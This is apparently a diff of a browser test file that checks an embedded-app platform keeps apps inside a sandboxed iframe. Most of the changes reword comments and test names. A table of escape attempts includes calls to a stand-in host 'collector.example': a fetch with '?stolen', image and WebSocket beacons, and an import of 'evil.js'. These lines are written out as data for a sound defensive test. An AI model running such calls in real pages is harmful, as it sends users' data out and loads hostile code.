@@ -3,11 +3,11 @@ import type { PlatformClient } from '@svc-embed/platform';
 import { expect, loaded, payloadsOf, surface, test } from '../../support/sandbox-test.js';
 
 declare global {
-  /** The app's end of its channel, where it keeps it. */
+  /** The app's port to the surface. */
   var port: MessagePort;
 }
 
-/** Shows what it receives in elements, and queries the cities of the weather at once. */
+/** An app that shows what it receives, and queries the cities when it starts. */
 const APP = `
 const show = (name, value) => {
   const output = document.createElement('output');
@@ -56,7 +56,7 @@ test.describe('an app', () => {
     await expect(app(page).getByRole('heading')).toHaveText('Weather');
   });
 
-  test('an app runs in a sandboxed frame, with the data and looks of its viewer', async ({ page }) => {
+  test('an app runs in a sandboxed frame, with the data and settings of its viewer', async ({ page }) => {
     await expect(surface(page).locator('iframe[data-app]')).toHaveAttribute('sandbox', 'allow-scripts');
     await expect(surface(page).locator('iframe[data-app]')).toHaveAttribute('title', 'Weather app');
     await loaded(page);
@@ -93,7 +93,7 @@ test.describe('an app', () => {
     await expect(surface(page).locator('iframe[data-app]')).toHaveCount(1);
   });
 
-  test('an app that floods its port and its parents changes nothing', async ({ page }) => {
+  test('messages that an app floods its port and its parents with have no effect', async ({ page }) => {
     await expect(app(page).locator('[data-answer]')).toContainText('cities');
     const heard = await page.evaluate(() => events.length);
     await app(page)
@@ -126,15 +126,15 @@ const ATTEMPTS: Readonly<Record<string, string>> = {
   'read the surface': 'parent.document.title',
   'read the page around it': 'top.document.title',
   'navigate the page around it': 'top.location.href = "about:blank"',
-  'keep anything': 'localStorage.setItem("a", "b")',
-  'have cookies': 'document.cookie = "a=b"',
+  'store anything': 'localStorage.setItem("a", "b")',
+  'set cookies': 'document.cookie = "a=b"',
   'open a database': 'settled(indexedDB.open("a"), "success")',
   'call the platform': 'fetch("/embed/api/dashboards")',
-  'call anybody': 'fetch("https://collector.example/?stolen")',
-  'load a picture from anybody':
+  'request another site': 'fetch("https://collector.example/?stolen")',
+  'load a picture from another site':
     'settled(Object.assign(new Image(), { src: "https://collector.example/?stolen" }), "load")',
   'open a socket': 'settled(new WebSocket("wss://collector.example"), "open")',
-  'load a script from anybody': 'import("https://collector.example/evil.js")',
+  'load a script from another site': 'import("https://collector.example/evil.js")',
   'start a worker': 'settled(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))), "message")',
   'open a window': 'open("about:blank") ?? refused()',
   'compile a text': 'new Function("return 1")()',
